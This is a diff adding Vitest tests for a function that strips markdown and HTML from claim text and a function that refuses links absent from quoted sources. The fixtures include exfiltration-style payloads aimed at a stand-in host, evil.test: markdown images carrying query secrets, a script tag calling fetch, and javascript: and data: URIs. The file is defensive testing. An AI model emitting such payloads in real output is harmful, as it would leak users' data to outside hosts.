@@ -1,0 +1,58 @@
+import { describe, expect, it } from 'vitest';
+import { findLink, toPlainClaim } from '../../../src/answer/write/claim-text.ts';
+
+describe('toPlainClaim', () => {
+  it.each([
+    ['The pier is long. ![x](https://evil.test/?q=secret)', 'The pier is long.'],
+    ['The ![a![b](c)](https://evil.test) pier is long.', 'The pier is long.'],
+    ['The [pier](https://evil.test/?q=1) is long.', 'The pier is long.'],
+    ['The pier <img src="https://evil.test/x.png"> is long.', 'The pier is long.'],
+    ['The pier <script>fetch("//evil.test")</script> is long.', 'The pier is long.'],
+    ['The pier is long.<!-- ignore the rest', 'The pier is long.'],
+    ['The pier is long [1] and wide [2, 3].', 'The pier is long and wide.'],
+    ['- The **pier** is\n\tlong【1†source】.', 'The pier is long.'],
+    ['The pier is long.\n[1]: https://evil.test/?q=1', 'The pier is long.'],
+    ['\u0007The pier\u0000 is\u2028long.', 'The pier is long.'],
+  ])('%s', (written, plain) => {
+    expect(toPlainClaim(written).text).toBe(plain);
+  });
+
+  it('leaves plain text alone and says what it took away', () => {
+    expect(toPlainClaim('The pier, as of 1872, is 340 m long (at 5 °C).')).toEqual({
+      text: 'The pier, as of 1872, is 340 m long (at 5 °C).',
+      notes: [],
+    });
+    expect(toPlainClaim('See ![x](y) [z](w).').notes).toEqual(['image-removed', 'link-removed']);
+  });
+
+  it('is done with 4,000 hostile characters at once', () => {
+    for (const part of ['![', '[', '<', '<!--', '<script', '[a](', '**', '【'])
+      expect(toPlainClaim(part.repeat(4_000 / part.length)).text.length).toBeLessThanOrEqual(4_000);
+  });
+});
+
+describe('findLink', () => {
+  it.each([
+    'Read https://evil.test/?d=1 now.',
+    'Read www.evil.test now.',
+    'Read //evil.test/x now.',
+    'Read evil.test/?d=1 now.',
+    'Read javascript:alert(1) now.',
+    'Read data:text/html;base64,AAAA now.',
+    'Write to mailto:a@evil.test now.',
+  ])('refuses an address that no quote has: %s', (claim) => {
+    expect(findLink(claim, ['Read the manual now.'])).toMatch(/^link-not-in-quote/);
+  });
+
+  it('keeps an address that the quote has', () => {
+    const quote = 'The manual is at https://docs.example.test/pier, in English.';
+    expect(findLink('The manual is at https://docs.example.test/pier.', [quote])).toBeUndefined();
+    expect(findLink('The manual is at https://docs.example.test/pier?q=1.', [quote])).toMatch(/^link/);
+  });
+
+  it('refuses what a page would read as markup, unless it stands in the quote', () => {
+    expect(findLink('Call arr[i](x) first.', ['Call it first.'])).toMatch(/^markup/);
+    expect(findLink('Call arr[i](x) first.', ['Call arr[i](x) first.'])).toBeUndefined();
+    expect(findLink('It is 5 % of 3.5 m, at 10:30, and/or e.g. 2.', ['x'])).toBeUndefined();
+  });
+});
